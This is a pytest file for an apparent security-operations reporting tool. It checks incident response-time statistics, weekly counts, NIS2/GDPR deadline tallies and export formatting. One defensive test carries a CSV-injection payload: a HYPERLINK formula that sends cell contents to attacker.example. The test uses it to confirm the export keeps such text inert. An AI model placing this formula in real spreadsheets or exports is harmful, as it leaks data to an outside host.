"""Register rows and period statistics on hand-built incidents whose times were chosen so that every figure
can be worked out on paper (the arithmetic is in each test)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pandas as pd
import pytest

from civicsoc.records import Incident, IncidentStatus, PlaybookRun, Severity, StepStatus
from civicsoc.store import TimeRange
from playbooks.loader import load_playbooks
from reports.context import ExportContext
from reports.facts import IncidentFacts, incident_facts
from reports.register import register_frame
from reports.statistics import (
    counts_over_time,
    deadline_tallies,
    format_hours,
    open_deadlines,
    response_times,
    statistics,
    summary_table,
)
from reports.tlp import Tlp


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 3, day, hour, minute, tzinfo=UTC)


def incident(name: str, *, first: datetime, created: datetime, acknowledged: datetime | None = None,
             resolved: datetime | None = None, status: IncidentStatus = IncidentStatus.new,
             tactics: tuple[str, ...] = (), severity: Severity = Severity.high, tenant: str = "town-a") -> Incident:
    return Incident(id=name, tenant=tenant, title=f"incident {name}", severity=severity, status=status,
                    first_seen=first, last_seen=first, created_at=created, updated_at=created,
                    acknowledged_at=acknowledged, resolved_at=resolved, tactics=list(tactics),
                    alert_ids=[f"{name}-a1", f"{name}-a2"])


# 1 March 2026 is a Sunday (1 January 2026 was a Thursday; 31 + 28 days later is 59 days = 8 weeks + 3 days),
# so the weeks start on Monday 2, 9 and 16 March.
FIXTURE = [
    # first event → detection 1 h, → acknowledged 0.5 h, → resolved 4 h; Tuesday 3 March (week of 2 March)
    incident("i1", first=at(3, 8), created=at(3, 9), acknowledged=at(3, 9, 30), resolved=at(3, 13),
             status=IncidentStatus.resolved, tactics=("execution", "persistence"), severity=Severity.critical),
    # 2 h to detect, 1 h to acknowledge, not resolved; Sunday 8 March (still the week of 2 March)
    incident("i2", first=at(8, 10), created=at(8, 12), acknowledged=at(8, 13), status=IncidentStatus.acknowledged,
             tactics=("execution",)),
    # 0.5 h to detect, never acknowledged; Tuesday 17 March (week of 16 March); another tenant
    incident("i3", first=at(17, 11), created=at(17, 11, 30), tactics=("lateral-movement",), severity=Severity.low,
             tenant="town-b"),
    # a duplicate: 10 h to detect and 1 min to acknowledge, which must not count; Wednesday 4 March
    incident("i4", first=at(4, 0), created=at(4, 10), acknowledged=at(4, 10, 1), status=IncidentStatus.duplicate),
]
NOW = at(20, 0)


def context() -> ExportContext:
    return ExportContext(period=TimeRange(at(1, 0), at(31, 0)), tenants=("town-a", "town-b"), tlp=Tlp.amber,
                         redacted=False, generated_at=NOW, generated_by="test")


@pytest.fixture(scope="module")
def frame() -> pd.DataFrame:
    return register_frame([IncidentFacts(item) for item in FIXTURE])


def test_mean_and_median_response_times_leave_duplicates_and_missing_times_out(frame: pd.DataFrame) -> None:
    results = {r.measure: r for r in response_times(frame)}
    # MTTD over i1, i2, i3: (1 + 2 + 0.5) / 3 = 1.1667 h, median 1 h
    assert results["MTTD"].incidents == 3
    assert results["MTTD"].mean_hours == pytest.approx(3.5 / 3)
    assert results["MTTD"].median_hours == pytest.approx(1.0)
    # MTTA over i1, i2 (i3 not acknowledged, i4 a duplicate): (0.5 + 1) / 2 = 0.75 h
    assert (results["MTTA"].incidents, results["MTTA"].mean_hours) == (2, pytest.approx(0.75))
    # MTTR over i1 only: 4 h
    assert (results["MTTR"].incidents, results["MTTR"].mean_hours, results["MTTR"].median_hours) == \
        (1, pytest.approx(4.0), pytest.approx(4.0))


def test_register_rows_carry_the_per_incident_hours_and_typed_columns(frame: pd.DataFrame) -> None:
    row = frame.set_index("incident_id").loc["i1"]
    assert (row["time_to_detect_h"], row["time_to_acknowledge_h"], row["time_to_resolve_h"]) == (1.0, 0.5, 4.0)
    assert row["alerts"] == 2
    assert str(frame["detected"].dtype) == "datetime64[us, UTC]"
    assert frame["severity"].cat.ordered and list(frame["severity"].cat.categories)[-1] == "critical"
    assert frame["alerts"].dtype.kind == "i" and frame["nis2"].dtype.kind == "b"
    assert frame.set_index("incident_id").loc["i3", "time_to_acknowledge_h"] != \
        frame.set_index("incident_id").loc["i3", "time_to_acknowledge_h"]  # NaN: never acknowledged


def test_weekly_counts_fill_quiet_weeks_and_count_each_tactic(frame: pd.DataFrame) -> None:
    weeks = counts_over_time(frame, "severity", "week")
    # i1, i2, i4 in the week of 2 March; nothing in the week of 9 March; i3 in the week of 16 March
    assert [(w.period, w.total) for w in weeks] == [("2026-03-02", 3), ("2026-03-09", 0), ("2026-03-16", 1)]
    assert weeks[0].counts["critical"] == 1 and weeks[0].counts["high"] == 2 and weeks[2].counts["low"] == 1
    tactics = counts_over_time(frame, "tactic", "week")
    # week of 2 March: execution in i1 and i2, persistence in i1 → 2 + 1 tactic counts for 3 incidents
    assert tactics[0].counts == {"execution": 2, "lateral-movement": 0, "persistence": 1}
    assert tactics[0].total == 3
    months = counts_over_time(frame, "status", "month")
    assert [(m.period, m.total) for m in months] == [("2026-03", 4)]
    assert months[0].counts["duplicate"] == 1 and months[0].counts["resolved"] == 1


def test_statistics_and_summary_table(frame: pd.DataFrame) -> None:
    stats = statistics(frame, context())
    assert stats.incidents == 4
    assert stats.by_tenant == {"town-a": 3, "town-b": 1}
    assert list(stats.by_severity) == ["critical", "high", "medium", "low", "informational"]
    assert stats.by_severity == {"critical": 1, "high": 2, "medium": 0, "low": 1, "informational": 0}
    assert stats.by_tactic == {"execution": 2, "lateral-movement": 1, "persistence": 1}
    table = summary_table(frame, ["town-a", "town-b"]).set_index("tenant")
    # town-a: i1 resolved, i2 acknowledged (open), i4 duplicate (closed) → 1 open; MTTA (0.5 + 1) / 2
    assert table.loc["town-a", "incidents"] == 3 and table.loc["town-a", "open"] == 1
    assert table.loc["town-a", "mtta_h"] == pytest.approx(0.75)
    assert table.loc["town-b", "open"] == 1 and table.loc["all", "incidents"] == 4
    assert table.loc["all", "mttd_h"] == pytest.approx(3.5 / 3)


def test_regulatory_deadlines_are_tallied_and_the_unsubmitted_listed() -> None:
    significant = at(10, 6)
    nis2 = incident("n1", first=at(10, 0), created=at(10, 1)).model_copy(
        update={"nis2": True, "gdpr": True, "significant_at": significant})
    library = load_playbooks()
    playbook = library.get("lateral-movement")
    early = next(step for step in playbook.steps if step.clock is not None and step.clock.value == "nis2-early-warning")
    steps = {step.id: {"status": "todo", "note": "", "by": None, "at": None} for step in playbook.steps}
    steps[early.id] = {"status": StepStatus.done.value, "note": "CSIRT ref 42", "by": "alice",
                       "at": "2026-03-10T20:00:00.000000Z"}
    run = PlaybookRun(id=f"n1.{playbook.id}", tenant="town-a", incident_id="n1", playbook_id=playbook.id,
                      playbook_version=playbook.version, attached_by="test", steps=steps)
    # now = 10 March 06:00 + 30 h: the early warning (due +24 h = 11 March 06:00) was sent at 20:00 on the 10th:
    # met; the notification (due +72 h) and the GDPR notification (due +72 h) are open; the final report
    # (one month after the notification's due time, provisional) is open.
    now = significant + timedelta(hours=30)
    facts = incident_facts(nis2, [run], list(library), now)
    assert facts.playbooks == ("lateral-movement",)
    assert facts.steps_completed == 1 and len(facts.steps) == len(playbook.steps)
    frame = register_frame([facts])
    tallies = {t.report: (t.met, t.missed, t.open) for t in deadline_tallies(frame)}
    assert tallies == {"nis2-early-warning": (1, 0, 0), "nis2-incident-notification": (0, 0, 1),
                       "nis2-final-report": (0, 0, 1), "gdpr-breach-notification": (0, 0, 1),
                       "cisa-incident-notification": (0, 0, 0)}  # an EU tenant: CISA's clock never starts
    row = frame.iloc[0]
    assert row["nis2_early_warning_due"].to_pydatetime() == at(11, 6)
    assert row["gdpr_notification_due"].to_pydatetime() == at(13, 6)
    assert row["playbook_completion"] == pytest.approx(1 / len(playbook.steps))
    pending = open_deadlines(frame)
    assert list(pending["report"]) == ["NIS2 incident notification", "GDPR notification to the supervisory authority",
                                       "NIS2 final report"]
    # without the run (nothing submitted) and 80 h after significance, both the 24 h and the 72 h reports are late
    later = incident_facts(nis2, [], list(library), significant + timedelta(hours=80))
    states = {d.key: d.status.value for d in later.deadlines}
    assert states["nis2-early-warning"] == "missed" and states["nis2-incident-notification"] == "missed"


def test_hours_are_formatted_for_people() -> None:
    assert format_hours(0.75) == "0.75 h"
    assert format_hours(26304.0) == "26,304.0 h (1,096.0 d)"
    assert format_hours(None) == "-" and format_hours(float("nan"), short=True) == ""
    assert format_hours(2.5, short=True) == "2.5 h" and format_hours(48_000, short=True) == "2000 d"


def test_text_that_looks_like_a_formula_stays_text_in_csv_and_xlsx() -> None:
    """A user name in an event log can be anything, e.g. a spreadsheet formula (CSV injection)."""
    import io

    from openpyxl import load_workbook

    from reports.register import to_csv, to_xlsx

    hostile = incident("x1", first=at(3, 8), created=at(3, 9)).model_copy(
        update={"title": '=HYPERLINK("http://attacker.example/?"&A1,"click")', "users": ["@SUM(1+1)"]})
    frame = register_frame([IncidentFacts(hostile)])
    csv = pd.read_csv(io.BytesIO(to_csv(frame, context())))
    assert csv.loc[0, "title"] == "'" + hostile.title and csv.loc[0, "users"] == "'@SUM(1+1)"
    book = load_workbook(io.BytesIO(to_xlsx(frame, summary_table(frame, ["town-a"]), context())))
    cell = book["town-a"]["C2"]
    assert cell.value == hostile.title and cell.data_type == "s"
